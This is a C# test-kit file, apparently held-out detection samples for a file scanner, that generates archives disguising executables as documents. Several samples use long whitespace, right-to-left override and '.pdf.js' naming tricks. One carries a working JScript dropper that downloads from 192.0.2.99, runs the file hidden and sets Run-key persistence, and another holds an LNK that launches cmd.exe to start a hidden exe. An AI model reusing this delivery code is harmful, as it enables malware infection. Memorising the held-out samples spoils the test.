using static ScanHost.TestKit.HeldOut.Eighth.EighthForms;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Archives with one file in them that is not what its name says.</summary>
public sealed class ArchiveDeliveries : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var program = new EighthImage { Is64 = false, Stamp = 0x6A0E1111 }.Runtime().Importing("KERNEL32.dll", "VirtualAlloc VirtualProtect WriteProcessMemory CreateProcessW").Importing("ADVAPI32.dll", "RegSetValueExW RegCreateKeyExW").Resource(10, 101, Noise(50000, 33)).Build();
        yield return ("Purchase_Order_pdf.zip", InertFiles.Zip(("Purchase Order_20261127.pdf                                                                      .exe", program)));
        yield return ("DHL_Shipment_Notification.rar", RarBuilder.Rar5("DHL_AWB#6078538091.pdf.js", Dos("""
            var sh = WScript.CreateObject("WScript.Shell");
            var url = "http://192.0.2.99/dhl/awb.exe";
            var http = WScript.CreateObject("MSXML2.ServerXMLHTTP.6.0");
            http.open("GET", url, false); http.send();
            var st = WScript.CreateObject("ADODB.Stream");
            st.Type = 1; st.Open(); st.Write(http.responseBody);
            var out = sh.ExpandEnvironmentStrings("%APPDATA%") + "\\awb.exe";
            st.SaveToFile(out, 2); st.Close();
            sh.Run("\"" + out + "\"", 0, false);
            sh.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\awb", out);
            """)));
        yield return ("Documents.tgz", Tgz(("Documents/Vertrag_\u202Efdp.scr", program), ("Documents/Anlage.txt", Utf8("Anlage zum Vertrag"))));
        var link = new LinkBuilder().To("C:\\Windows\\System32\\cmd.exe").With("/c \"copy /y __MACOSX\\.m\\*.log %TEMP%\\ & start %TEMP%\\t.log.exe & start wallpaper.pdf\"").Icon("%ProgramFiles%\\Windows NT\\Accessories\\wordpad.exe").Build();
        yield return ("brief.zip", InertFiles.Zip(("brief/brief.zip", InertFiles.Zip(("Brief for applicants.pdf.lnk", link), ("__MACOSX/.m/t.log.exe", program), ("wallpaper.pdf", PdfBuilder.Document())))));
    }
}
